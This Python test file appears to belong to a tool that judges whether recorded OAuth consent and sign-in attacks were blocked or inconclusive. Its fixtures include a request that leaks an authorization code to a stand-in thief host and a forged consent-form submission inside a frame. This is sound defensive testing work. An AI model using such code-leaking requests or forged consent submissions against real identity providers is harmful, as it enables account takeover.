"""What shows that something did not come along, where something else did."""

import pytest

from reports.records import HttpRequest, HttpResponse, Observation, Proof
from tests.reports.judgement.cases import (
    IDP,
    REDIRECT_URI,
    Log,
    Make,
    Shape,
    exchange,
    verdict,
)
from tests.reports.judgement.kinds import refused_frame, silent_channel
from tests.reports.judgement.prepared import forgotten_password
from tests.reports.judgement.spoil import Spoil, add, ask, change, unanswered

REFUSED, OPEN = Observation.ATTACK_BLOCKED, Observation.INCONCLUSIVE
LATER = Shape(Proof.TOKEN, "S256", secret=False).issue("attack", 13.5, "code#8")


def forbidden_frame() -> Log:
    return refused_frame(("x-frame-options", "DENY"))


@pytest.mark.parametrize(
    ("made", "spoil"),
    [
        (silent_channel, ask("attack.badge", url="https://www.thief.test/badge.png?x=code#2")),
        (silent_channel, add("attack.later", LATER, "attack.sign")),
        (forgotten_password, change("attack.sign-in", destination="client")),
        (forgotten_password, ask("attack.sign-in", body="username=alice")),
        (forbidden_frame, unanswered("attack.asked")),
    ],
    ids=["seen", "issued later", "another server", "no password", "no answer"],
)
def test_what_came_along_or_was_not_there_proves_nothing(made: Make, spoil: Spoil) -> None:
    log = made()
    spoil(log)

    assert verdict(log).observed is OPEN, verdict(log).reason


@pytest.mark.parametrize(("answer", "observed"), [("error=e", REFUSED), ("code=code%239", OPEN)])
def test_a_frame_that_a_request_is_granted_in_was_not_refused(
    answer: str, observed: Observation
) -> None:
    log = forbidden_frame()
    form = '<form action="/consent"><input type="hidden" name="csrf_token" value="csrf_token#1">'
    page = HttpResponse(200, (("x-frame-options", "DENY"),), form)
    change("attack.asked", response=page)(log)
    sent = HttpRequest("POST", f"{IDP}/consent", body="csrf_token=csrf_token#1&decision=allow")
    parties, back = "victim-browser > identity-provider", f"{REDIRECT_URI}?{answer}"
    log["attack.sent"] = exchange("attack.sent", 12.6, parties, sent, 303, location=back)
    found = verdict(log)

    assert found.observed is observed
    assert found.decisive == ("attack.asked" if observed is REFUSED else "")
